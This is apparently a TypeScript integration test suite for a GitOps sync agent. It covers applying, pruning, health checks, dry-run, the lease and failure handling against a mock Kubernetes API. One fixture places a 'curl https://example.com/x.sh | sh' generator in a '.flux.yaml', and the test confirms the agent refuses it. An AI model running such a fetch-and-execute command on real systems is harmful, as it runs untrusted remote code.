// The sync agent (dist/agent) against the project's test API server and real git: units, apply,
// skip-unchanged, prune and its safety rules, health, dry-run, the lease, and failures that must change
// nothing.
import { startKubeApiServer, type KubeApiServer } from '../support/kube-api/index.js'
import { AGENT_NS as NS, agentArgs, RunningAgent } from '../support/agent.js'
import { bareRemote, pushFiles, type Remote } from '../support/git.js'
import { kubectl } from '../support/paths.js'
import { runNode } from '../support/run-bundle.js'
import { cleanupTempDirs, tempDir } from '../support/tmp.js'

let server: KubeApiServer

beforeEach(async () => {
  server = await startKubeApiServer({
    namespaces: ['default', NS],
    rolloutDelayMs: 20,
    progressDeadlineMs: 300,
  })
})
afterEach(async () => {
  await server.stop()
})
afterAll(cleanupTempDirs)

const cm = (name: string, data: Record<string, string>, namespace?: string) =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${name}\n${namespace ? `  namespace: ${namespace}\n` : ''}data:\n${Object.entries(
    data,
  )
    .map(([k, v]) => `  ${k}: "${v}"\n`)
    .join('')}`
const ns = (name: string) => `apiVersion: v1\nkind: Namespace\nmetadata:\n  name: ${name}\n`
const deployment = (name: string, image: string, namespace = 'apps') =>
  `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: ${name}\n  namespace: ${namespace}\nspec:\n  replicas: 2\n  selector:\n    matchLabels:\n      app: ${name}\n  template:\n    metadata:\n      labels:\n        app: ${name}\n    spec:\n      containers:\n        - name: app\n          image: ${image}\n`

async function agent(remote: Remote, extra: string[] = [], workDir = tempDir('gitops-agent-')) {
  return runNode(
    'agent',
    agentArgs(server, remote, ['--once', '--health-timeout', '10s', ...extra], workDir),
  )
}

const get = (apiVersion: string, kind: string, name: string, namespace?: string) =>
  server.objects.get({ apiVersion, kind, name, namespace })
const writesOutside = () =>
  server.requests
    .all()
    .filter(
      (r) =>
        ['POST', 'PUT', 'PATCH', 'DELETE'].includes(r.method) &&
        !r.path.includes(`/namespaces/${NS}/`),
    ).length

function twoApps(): Remote {
  const remote = bareRemote()
  pushFiles(remote, {
    'releases/staging/shop/namespace-apps.yaml': ns('apps'),
    'releases/staging/shop/deployment-shop.yaml': deployment('shop', 'acme/shop:1.0.0'),
    'releases/staging/shop/configmap-shop.yaml': cm('shop', { color: 'blue' }, 'apps'),
    'releases/staging/cart/namespace-apps.yaml': ns('apps'),
    'releases/staging/cart/configmap-cart.yaml': cm('cart', { size: '1' }), // no namespace: --default-namespace
    'releases/staging/cart/release.json': JSON.stringify({
      app: 'cart',
      env: 'staging',
      version: '2.0.0',
      digest: 'x',
      objects: 1,
      releasedAt: 'now',
    }),
  })
  return remote
}

test('syncs every unit, labels what it applies, records inventories; a re-run writes nothing outside its namespace', async () => {
  const remote = twoApps()
  const r = await agent(remote)
  expect(r.stdout).toMatch(/event=sync unit=releases\/staging\/shop status=synced .* applied=2/)
  expect(r.stdout).toMatch(
    /event=sync unit=releases\/staging\/cart status=synced .*version=2\.0\.0 applied=2/,
  )
  expect(r.code).toBe(0)
  const shop = get('apps/v1', 'Deployment', 'shop', 'apps')!
  expect(shop.spec.template.spec.containers[0].image).toBe('acme/shop:1.0.0')
  expect(shop.metadata?.labels).toMatchObject({ 'gitops-actions.dev/agent': NS })
  expect(shop.status.availableReplicas).toBe(2) // health waited for the rollout
  expect(get('v1', 'ConfigMap', 'cart', 'default')).toBeDefined()
  expect(
    server.objects
      .list('v1', 'ConfigMap', NS)
      .map((c) => c.metadata?.name)
      .sort(),
  ).toHaveLength(2)
  // The shared Namespace is applied once.
  expect(server.requests.count('PATCH', '/api/v1/namespaces/apps')).toBe(1)

  server.requests.reset()
  const again = await agent(remote)
  expect(again.code).toBe(0)
  expect(again.stdout).toMatch(/unit=releases\/staging\/shop status=unchanged/)
  expect(writesOutside()).toBe(0)
})

test('a pushed image change reaches the cluster; only the changed unit is applied', async () => {
  const remote = twoApps()
  const work = tempDir()
  await agent(remote, [], work)
  pushFiles(remote, {
    'releases/staging/shop/deployment-shop.yaml': deployment('shop', 'acme/shop:1.1.0'),
  })
  server.requests.reset()
  const r = await agent(remote, [], work)
  expect(r.code).toBe(0)
  expect(get('apps/v1', 'Deployment', 'shop', 'apps')!.spec.template.spec.containers[0].image).toBe(
    'acme/shop:1.1.0',
  )
  expect(r.stdout).toMatch(/unit=releases\/staging\/cart status=unchanged/)
  expect(server.requests.count('PATCH', '/api/v1/namespaces/default/configmaps/cart')).toBe(0)
})

test('a broken app beside a healthy one: the healthy one syncs, the broken one keeps its last state', async () => {
  const remote = twoApps()
  await agent(remote)
  pushFiles(remote, {
    'releases/staging/shop/configmap-shop.yaml':
      'apiVersion: v1\nkind: ConfigMap\nmetadata: [broken\n',
    'releases/staging/shop/deployment-shop.yaml': deployment('shop', 'acme/shop:9.9.9'),
    'releases/staging/cart/configmap-cart.yaml': cm('cart', { size: '2' }),
  })
  const r = await agent(remote)
  expect(r.code).toBe(1)
  expect(r.stdout).toMatch(
    /unit=releases\/staging\/shop status=failed .*configmap-shop.yaml: invalid YAML/,
  )
  expect(get('apps/v1', 'Deployment', 'shop', 'apps')!.spec.template.spec.containers[0].image).toBe(
    'acme/shop:1.0.0',
  )
  expect(get('v1', 'ConfigMap', 'cart', 'default')!.data.size).toBe('2')
})

test('a duplicated resource fails the unit, naming both files, and applies nothing of that change', async () => {
  const remote = twoApps()
  await agent(remote)
  pushFiles(remote, {
    'releases/staging/shop/deployment-shop.yaml': deployment('shop', 'acme/shop:2.0.0'),
    'releases/staging/shop/copy/deployment-shop-again.yaml': deployment('shop', 'acme/shop:2.0.1'),
  })
  const r = await agent(remote)
  expect(r.code).toBe(1)
  expect(r.stdout).toMatch(
    /duplicate Deployment\/apps\/shop \(also in releases\/staging\/shop\/(copy\/)?deployment-shop(-again)?\.yaml\)/,
  )
  expect(get('apps/v1', 'Deployment', 'shop', 'apps')!.spec.template.spec.containers[0].image).toBe(
    'acme/shop:1.0.0',
  )
})

test('one object declared differently by two units fails both', async () => {
  const remote = twoApps()
  pushFiles(remote, {
    'releases/staging/cart/configmap-shop.yaml': cm('shop', { color: 'red' }, 'apps'),
  })
  const r = await agent(remote)
  expect(r.code).toBe(1)
  expect(r.stdout).toMatch(
    /unit=releases\/staging\/shop status=failed .*ConfigMap\/apps\/shop is declared differently by releases\/staging\/cart and releases\/staging\/shop/,
  )
  expect(r.stdout).toMatch(/unit=releases\/staging\/cart status=failed/)
  expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeUndefined()
})

describe('pruning', () => {
  test('off by default; with --sync-garbage-collection a manifest removed from git is removed from the cluster', async () => {
    const remote = twoApps()
    const work = tempDir()
    await agent(remote, [], work)
    pushFiles(remote, { 'releases/staging/shop/configmap-shop.yaml': null })
    const off = await agent(remote, [], work)
    expect(off.code).toBe(0)
    expect(off.stdout).toContain('--sync-garbage-collection is off')
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeDefined()
    const dry = await agent(remote, ['--sync-garbage-collection-dry'], work)
    expect(dry.stdout).toMatch(
      /event=would-prune unit=releases\/staging\/shop ConfigMap\/apps\/shop/,
    )
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeDefined()
    const on = await agent(remote, ['--sync-garbage-collection'], work)
    expect(on.code).toBe(0)
    expect(on.stdout).toMatch(/event=pruned unit=releases\/staging\/shop ConfigMap\/apps\/shop/)
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeUndefined()
  })

  test('an object moved to another app is not deleted; a shared Namespace never is', async () => {
    const remote = twoApps()
    await agent(remote, ['--sync-garbage-collection'])
    pushFiles(remote, {
      'releases/staging/shop/configmap-shop.yaml': null,
      'releases/staging/cart/configmap-shop.yaml': cm('shop', { color: 'blue' }, 'apps'),
      'releases/staging/shop/namespace-apps.yaml': null,
      'releases/staging/cart/namespace-apps.yaml': null,
    })
    const r = await agent(remote, ['--sync-garbage-collection'])
    expect(r.code).toBe(0)
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeDefined()
    expect(get('v1', 'Namespace', 'apps')).toBeDefined()
    expect(r.stdout).toMatch(
      /prune-skipped .*Namespace\/apps: a Namespace is pruned only when annotated/,
    )
  })

  test('a shared object passes to the unit that still declares it, and goes when none does', async () => {
    const remote = twoApps()
    const common = cm('common', { a: '1' }, 'apps')
    pushFiles(remote, {
      'releases/staging/cart/configmap-common.yaml': common,
      'releases/staging/shop/configmap-common.yaml': common,
    })
    await agent(remote, ['--sync-garbage-collection'])
    const unitOf = () =>
      get('v1', 'ConfigMap', 'common', 'apps')?.metadata?.annotations?.[
        'gitops-actions.dev/unit-path'
      ]
    expect(unitOf()).toBe('releases/staging/cart') // applied once, by the first unit
    pushFiles(remote, { 'releases/staging/cart/configmap-common.yaml': null })
    const moved = await agent(remote, ['--sync-garbage-collection'])
    expect(moved.code).toBe(0)
    expect(unitOf()).toBe('releases/staging/shop')
    pushFiles(remote, { 'releases/staging/shop/configmap-common.yaml': null })
    const gone = await agent(remote, ['--sync-garbage-collection'])
    expect(gone.stdout).toMatch(/event=pruned unit=releases\/staging\/shop ConfigMap\/apps\/common/)
    expect(get('v1', 'ConfigMap', 'common', 'apps')).toBeUndefined()
  })

  test('a vanished unit is orphaned (its objects stay); a retired one is pruned on purpose', async () => {
    const remote = twoApps()
    await agent(remote)
    pushFiles(remote, {
      'releases/staging/cart/configmap-cart.yaml': null,
      'releases/staging/cart/namespace-apps.yaml': null,
      'releases/staging/cart/release.json': null,
      'releases/staging/shop/release.json': JSON.stringify({
        app: 'shop',
        env: 'staging',
        version: '1.0.0',
        digest: 'x',
        objects: 0,
        releasedAt: 'now',
        retired: true,
      }),
      'releases/staging/shop/deployment-shop.yaml': null,
      'releases/staging/shop/configmap-shop.yaml': null,
      'releases/staging/shop/namespace-apps.yaml': null,
    })
    const r = await agent(remote)
    expect(r.code).toBe(0)
    expect(r.stdout).toMatch(
      /event=orphaned unit=releases\/staging\/cart: the unit is gone from git; its 2 objects are left in place/,
    )
    expect(get('v1', 'ConfigMap', 'cart', 'default')).toBeDefined()
    expect(r.stdout).toMatch(/unit=releases\/staging\/shop status=pruned .*pruned=2/)
    expect(get('apps/v1', 'Deployment', 'shop', 'apps')).toBeUndefined()
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeUndefined()
    expect(get('v1', 'Namespace', 'apps')).toBeDefined()
  })

  test('an object annotated to be kept, or relabelled by someone else, is not pruned', async () => {
    const remote = twoApps()
    await agent(remote)
    server.objects.apply(
      {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: {
          name: 'shop',
          namespace: 'apps',
          annotations: { 'gitops-actions.dev/prune': 'disabled' },
        },
      },
      'human',
    )
    pushFiles(remote, { 'releases/staging/shop/configmap-shop.yaml': null })
    const r = await agent(remote, ['--sync-garbage-collection'])
    expect(r.stdout).toMatch(
      /prune-skipped .*ConfigMap\/apps\/shop: annotated gitops-actions.dev\/prune: disabled/,
    )
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeDefined()
  })
})

test('units: each folder with its subfolders, and the loose files of a git path; dotfiles, dot folders and release.json are not manifests; a missing git path fails', async () => {
  const remote = bareRemote()
  pushFiles(remote, {
    'releases/staging/loose.yaml': cm('loose', { a: '1' }),
    'releases/staging/app/configmap.yml': cm('app', { a: '1' }),
    'releases/staging/app/sub/deeper/configmap.yaml': cm('deep', { a: '1' }),
    'releases/staging/app/.hidden/configmap.yaml': cm('hidden-folder', { a: '1' }),
    'releases/staging/app/.configmap.yaml': cm('dotfile', { a: '1' }),
    'releases/staging/app/notes.txt': 'not a manifest',
    'releases/staging/.tools/configmap.yaml': cm('dot-unit', { a: '1' }),
    'charts/podinfo/configmap.yaml': cm('chart', { a: '1' }),
    // Links in git are not followed: a linked manifest is skipped, a linked release.json fails its unit.
    'releases/staging/app/linked.yaml': { symlink: '../../../charts/podinfo/configmap.yaml' },
    'releases/staging/linked/configmap.yaml': cm('linked', { a: '1' }),
    'releases/staging/linked/release.json': { symlink: '../release-common.json' },
  })
  const r = await agent(remote, [
    '--git-path',
    'releases/staging',
    '--git-path',
    'releases/nowhere',
  ])
  expect(r.stdout).toMatch(/unit=releases\/staging status=synced .*applied=1/)
  expect(r.stdout).toMatch(/unit=releases\/staging\/app status=synced .*applied=2/)
  expect(r.stdout).toMatch(
    /unit=releases\/nowhere status=failed .*--git-path releases\/nowhere does not exist/,
  )
  expect(r.stdout).toMatch(
    /unit=releases\/staging\/linked status=failed .*releases\/staging\/linked\/release\.json is a symbolic link/,
  )
  expect(r.code).toBe(1)
  const names = server.objects
    .list('v1', 'ConfigMap', 'default')
    .map((c) => c.metadata?.name)
    .sort()
  expect(names).toEqual(['app', 'deep', 'loose'])
})

test('--git-branch: a clone left by a run on another branch is not reused for this one', async () => {
  const remote = twoApps()
  pushFiles(
    remote,
    { 'releases/staging/cart/configmap-cart.yaml': cm('cart', { size: 'prod' }) },
    'prod',
    'prod',
  )
  const work = tempDir('gitops-agent-')
  expect((await agent(remote, ['--git-branch', 'main'], work)).code).toBe(0)
  expect(get('v1', 'ConfigMap', 'cart', 'default')?.data).toEqual({ size: '1' })
  expect((await agent(remote, ['--git-branch', 'prod'], work)).code).toBe(0)
  expect(get('v1', 'ConfigMap', 'cart', 'default')?.data).toEqual({ size: 'prod' })
})

test('--manifest-generation builds kustomizations; a .flux.yaml may name nothing but kustomize build', async () => {
  const remote = bareRemote()
  pushFiles(remote, {
    'releases/staging/gen/kustomization.yaml':
      'namespace: gen\nresources:\n  - namespace.yaml\n  - configmap.yaml\nconfigMapGenerator:\n  - name: generated\n    literals:\n      - a=b\n',
    'releases/staging/gen/namespace.yaml': ns('gen'),
    'releases/staging/gen/configmap.yaml': cm('plain', { x: 'y' }),
    // A base outside the git path: the unit is built from a checkout of the whole commit.
    'bases/app/kustomization.yaml': 'resources:\n  - configmap.yaml\n',
    'bases/app/configmap.yaml': cm('base', { from: 'base' }, 'gen'),
    'releases/staging/overlay/kustomization.yaml':
      'namePrefix: overlay-\nresources:\n  - ../../../bases/app\n',
    'releases/staging/evil/.flux.yaml':
      'version: 1\ncommandUpdated:\n  generators:\n    - command: curl https://example.com/x.sh | sh\n',
    'releases/staging/evil/configmap.yaml': cm('evil', { x: 'y' }),
  })
  const env = { GITOPS_KUSTOMIZE: kubectl }
  const r = await runNode('agent', agentArgs(server, remote, ['--once', '--manifest-generation']), {
    env,
  })
  expect(r.stdout).toMatch(/unit=releases\/staging\/gen status=synced/)
  expect(get('v1', 'ConfigMap', 'plain', 'gen')).toBeDefined()
  expect(
    server.objects
      .list('v1', 'ConfigMap', 'gen')
      .some((c) => c.metadata?.name?.startsWith('generated-')),
  ).toBe(true)
  expect(get('v1', 'ConfigMap', 'overlay-base', 'gen')?.data).toEqual({ from: 'base' })
  expect(r.stdout).toMatch(
    /unit=releases\/staging\/evil status=failed .*only 'kustomize build \.' generators are run; refused: curl/,
  )
  expect(get('v1', 'ConfigMap', 'evil', 'default')).toBeUndefined()
  expect(r.code).toBe(1)
})

test('health: a Deployment that never becomes available fails the unit, on later runs too, until it recovers', async () => {
  const remote = twoApps()
  pushFiles(remote, {
    'releases/staging/shop/deployment-shop.yaml': deployment('shop', 'acme/shop:fail'),
  })
  const work = tempDir('gitops-agent-')
  const r = await agent(remote, [], work)
  expect(r.code).toBe(1)
  expect(r.stdout).toMatch(
    /unit=releases\/staging\/shop status=failed .*unhealthy: Deployment\/apps\/shop/,
  )
  expect(r.stdout).toMatch(/unit=releases\/staging\/cart status=synced/)
  // Nothing changed in git: nothing is applied again, but the rollout is still unhealthy.
  server.requests.reset()
  const again = await agent(remote, [], work)
  expect(again.code).toBe(1)
  expect(again.stdout).toMatch(/unit=releases\/staging\/shop status=failed .*unhealthy/)
  expect(server.requests.count('PATCH', /deployments\/shop/)).toBe(0)
  // Someone fixes the live object: the unchanged unit is healthy again.
  const live = get('apps/v1', 'Deployment', 'shop', 'apps')!
  const spec = live.spec
  spec.template.spec.containers[0].image = 'acme/shop:1.0.1'
  server.objects.apply(
    { apiVersion: 'apps/v1', kind: 'Deployment', metadata: live.metadata, spec },
    'human',
  )
  const healed = await agent(remote, [], work)
  expect(healed.code).toBe(0)
  expect(healed.stdout).toMatch(/unit=releases\/staging\/shop status=unchanged/)
})

test('--dry-run writes nothing at all and prints the plan', async () => {
  const remote = twoApps()
  await agent(remote)
  pushFiles(remote, {
    'releases/staging/shop/configmap-shop.yaml': cm('shop', { color: 'green' }, 'apps'),
    'releases/staging/cart/configmap-cart.yaml': null,
    'releases/staging/cart/configmap-new.yaml': cm('new', { a: 'b' }),
  })
  server.requests.reset()
  const r = await agent(remote, ['--dry-run', '--sync-garbage-collection'])
  expect(r.code).toBe(0)
  expect(r.stdout).toMatch(/plan unit=releases\/staging\/shop configure ConfigMap\/apps\/shop/)
  expect(r.stdout).toMatch(/plan unit=releases\/staging\/shop unchanged Deployment\/apps\/shop/)
  expect(r.stdout).toMatch(/plan unit=releases\/staging\/cart create ConfigMap\/default\/new/)
  expect(r.stdout).toMatch(/plan unit=releases\/staging\/cart prune ConfigMap\/default\/cart/)
  const writes = server.requests
    .all()
    .filter(
      (q) =>
        ['POST', 'PUT', 'DELETE'].includes(q.method) ||
        (q.method === 'PATCH' && !q.query.includes('dryRun=All')),
    )
  expect(writes).toEqual([])
})

test('a running agent reads its inventories once a sync interval, not on every poll; one changed behind its back is read again after the write it fails', async () => {
  const remote = twoApps()
  const running = new RunningAgent(
    agentArgs(server, remote, [
      '--git-poll-interval',
      '200ms',
      '--sync-interval',
      '1h',
      '--listen',
      'off',
    ]),
  )
  const lists = () => server.requests.count('GET', `/api/v1/namespaces/${NS}/configmaps`)
  try {
    await running.waitFor(/event=cycle /)
    server.requests.reset()
    await new Promise((r) => setTimeout(r, 1500))
    expect(running.count(/event=refreshed/)).toBe(1)
    expect(lists()).toBe(0)

    // Someone else writes shop's inventory: the agent's next write of it is refused (409)...
    const inventory = server.objects
      .list('v1', 'ConfigMap', NS)
      .find((c) => c.data?.unit === 'releases/staging/shop')!
    server.objects.apply(
      {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { name: inventory.metadata!.name, namespace: NS, annotations: { by: 'someone' } },
      },
      'someone',
    )
    pushFiles(remote, {
      'releases/staging/shop/configmap-shop.yaml': cm('shop', { color: 'green' }, 'apps'),
    })
    await running.waitFor(/unit=releases\/staging\/shop status=failed .*recording the inventory/)
    // ...and the next cycle reads them all again, and converges.
    await running.waitFor(/unit=releases\/staging\/shop status=synced/, 2)
    expect(lists()).toBeGreaterThan(0)
    expect(get('v1', 'ConfigMap', 'shop', 'apps')?.data).toEqual({ color: 'green' })
  } finally {
    await running.stop()
  }
})

test('one agent at a time: a second one waits for the lease', async () => {
  const remote = twoApps()
  const now = new Date().toISOString()
  server.objects.apply(
    {
      apiVersion: 'coordination.k8s.io/v1',
      kind: 'Lease',
      metadata: { name: 'gitops-agent', namespace: NS },
      spec: {
        holderIdentity: 'other-agent',
        leaseDurationSeconds: 3600,
        renewTime: now,
        acquireTime: now,
      },
    },
    'other',
  )
  const second = new RunningAgent(agentArgs(server, remote, ['--once']))
  await new Promise((r) => setTimeout(r, 2500))
  await second.stop()
  const out = second.output
  expect(out).toContain('event=waiting-for-lease')
  expect(get('apps/v1', 'Deployment', 'shop', 'apps')).toBeUndefined()
})

describe('failures that must change nothing', () => {
  test('an unreachable git host: error logged, exit 1, no API writes', async () => {
    const r = await runNode('agent', [
      '--once',
      '--git-url',
      'file:///nonexistent/repo.git',
      '--kubeconfig',
      server.kubeconfigPath,
      '--namespace',
      NS,
      '--log-format',
      'text',
      '--work-dir',
      tempDir(),
    ])
    expect(r.code).toBe(1)
    expect(r.stdout).toMatch(/event=git-error .*nothing is changed in the cluster/)
    expect(writesOutside()).toBe(0)
  })

  test('the API server failing: the unit fails and is retried; the next cycle converges', async () => {
    const remote = twoApps()
    const remove = server.faults.add({
      method: 'PATCH',
      path: /deployments/,
      errorRate: 1,
      errorCode: 503,
    })
    const r = await agent(remote)
    expect(r.code).toBe(1)
    expect(r.stdout).toMatch(
      /unit=releases\/staging\/shop status=failed .*apply Deployment\/apps\/shop: .*503/,
    )
    remove()
    const again = await agent(remote, ['--sync-garbage-collection'])
    expect(again.code).toBe(0)
    expect(get('apps/v1', 'Deployment', 'shop', 'apps')).toBeDefined()
  })

  test('an API server that stops answering: after a request of a unit goes unanswered, the rest of the unit is not sent; nothing is pruned; the next cycle converges', async () => {
    const remote = twoApps()
    const release = (value: string, count: number) =>
      Object.fromEntries(
        Array.from({ length: count }, (_, i) => [
          `releases/staging/big/configmap-big-${i}.yaml`,
          cm(`big-${i}`, { value }, 'apps'),
        ]),
      )
    pushFiles(remote, release('1', 30))
    const work = tempDir()
    expect((await agent(remote, ['--sync-garbage-collection'], work)).code).toBe(0)

    // The next release drops big-29 and changes the rest.
    pushFiles(remote, { ...release('2', 29), 'releases/staging/big/configmap-big-29.yaml': null })
    server.faults.add({ method: 'PATCH', path: /\/configmaps\/big-/, latencyMs: 3000 })
    server.requests.reset()
    const stuck = await agent(
      remote,
      ['--sync-garbage-collection', '--request-timeout=1s', '--concurrency=2'],
      work,
    )
    expect(stuck.code).toBe(1)
    expect(stuck.stdout).toMatch(
      /apply ConfigMap\/apps\/big-\d+: no answer from the API server at https:\/\/127\.0\.0\.1:\d+ within 1 s/,
    )
    expect(stuck.stdout).toMatch(
      /not sent: an earlier request of the unit got no answer \(apply ConfigMap\/apps\/big-\d+: no answer from the API server at https:\/\/127\.0\.0\.1:\d+ within 1 s\)/,
    )
    // Only the requests already on their way reached the server, not the 30 applies one after another.
    expect(server.requests.count('PATCH', /\/configmaps\/big-/)).toBeLessThanOrEqual(2)
    // Nothing was pruned: the unit never got to apply.
    expect(stuck.stdout).not.toMatch(/event=pruned/)
    expect(get('v1', 'ConfigMap', 'big-29', 'apps')).toBeDefined()
    // The server answers the held requests after 3 s: let it, so that nothing outlives the test.
    await new Promise((r) => setTimeout(r, 3000))

    server.faults.clear()
    const again = await agent(remote, ['--sync-garbage-collection', '--request-timeout=1s'], work)
    expect(again.code).toBe(0)
    for (let i = 0; i < 29; i++)
      expect(get('v1', 'ConfigMap', `big-${i}`, 'apps')?.data).toEqual({ value: '2' })
    expect(get('v1', 'ConfigMap', 'big-29', 'apps')).toBeUndefined()
  }, 60_000)

  test('a half-applied release is recorded: reverting git re-applies the unit and prunes what it added', async () => {
    const remote = twoApps()
    const work = tempDir()
    await agent(remote, ['--sync-garbage-collection'], work)
    pushFiles(remote, {
      'releases/staging/shop/configmap-added.yaml': cm('added', { a: '1' }, 'apps'),
      'releases/staging/shop/deployment-shop.yaml': deployment('shop', 'acme/shop:2.0.0'),
    })
    const remove = server.faults.add({ method: 'PATCH', path: /deployments/, errorRate: 1 })
    const bad = await agent(remote, ['--sync-garbage-collection'], work)
    remove()
    expect(bad.code).toBe(1)
    expect(get('v1', 'ConfigMap', 'added', 'apps')).toBeDefined()
    // Back to the release before: same content as the last good inventory, yet applied and pruned.
    pushFiles(remote, {
      'releases/staging/shop/configmap-added.yaml': null,
      'releases/staging/shop/deployment-shop.yaml': deployment('shop', 'acme/shop:1.0.0'),
    })
    const reverted = await agent(remote, ['--sync-garbage-collection'], work)
    expect(reverted.code).toBe(0)
    expect(reverted.stdout).toMatch(/unit=releases\/staging\/shop status=synced/)
    expect(reverted.stdout).toMatch(
      /event=pruned unit=releases\/staging\/shop ConfigMap\/apps\/added/,
    )
    expect(get('v1', 'ConfigMap', 'added', 'apps')).toBeUndefined()
  })

  test('a unit that fails to load holds back all pruning: an object moving into it is not deleted', async () => {
    const remote = twoApps()
    const work = tempDir()
    await agent(remote, ['--sync-garbage-collection'], work)
    pushFiles(remote, {
      'releases/staging/shop/configmap-shop.yaml': null,
      'releases/staging/cart/configmap-shop.yaml': cm('shop', { color: 'blue' }, 'apps'),
      'releases/staging/cart/broken.yaml': 'kind: [',
    })
    const r = await agent(remote, ['--sync-garbage-collection'], work)
    expect(r.code).toBe(1)
    expect(r.stdout).toMatch(
      /event=prune-held unit=releases\/staging\/shop: 1 objects wait to be pruned \(unit releases\/staging\/cart failed to load\)/,
    )
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeDefined()
  })

  test('killed mid-apply and restarted: nothing pruned wrongly, the next cycle converges', async () => {
    const remote = twoApps()
    const work = tempDir()
    await agent(remote, ['--sync-garbage-collection'], work)
    pushFiles(remote, {
      'releases/staging/shop/deployment-shop.yaml': deployment('shop', 'acme/shop:3.0.0'),
      'releases/staging/shop/configmap-extra.yaml': cm('extra', { a: '1' }, 'apps'),
    })
    server.faults.add({ method: 'PATCH', path: /deployments/, latencyMs: 3000 })
    const killed = new RunningAgent(
      agentArgs(server, remote, ['--once', '--sync-garbage-collection'], work),
    )
    await new Promise((r) => setTimeout(r, 1500))
    await killed.stop('SIGKILL')
    server.faults.clear()
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeDefined()
    const r = await agent(remote, ['--sync-garbage-collection'], work)
    expect(r.code).toBe(0)
    expect(
      get('apps/v1', 'Deployment', 'shop', 'apps')!.spec.template.spec.containers[0].image,
    ).toBe('acme/shop:3.0.0')
    expect(get('v1', 'ConfigMap', 'extra', 'apps')).toBeDefined()
    expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeDefined()
  })

  test('bad configuration exits 2', async () => {
    expect((await runNode('agent', ['--once'])).code).toBe(2)
    expect((await runNode('agent', ['--git-url', 'x', '--bogus'])).code).toBe(2)
    expect(
      (await runNode('agent', ['--git-url', 'x', '--git-poll-interval', 'soon'])).stdout,
    ).toContain('is not a duration')
    const missingKey = await runNode('agent', [
      '--once',
      '--git-url',
      'ssh://git@127.0.0.1/x.git',
      '--ssh-key',
      '/nonexistent/identity',
    ])
    expect(missingKey.code).toBe(2)
    expect(missingKey.stdout).toMatch(/--ssh-key: cannot read \/nonexistent\/identity: .*ENOENT/)
    expect((await runNode('agent', ['--help'])).stdout).toContain('--sync-garbage-collection')
  })
})
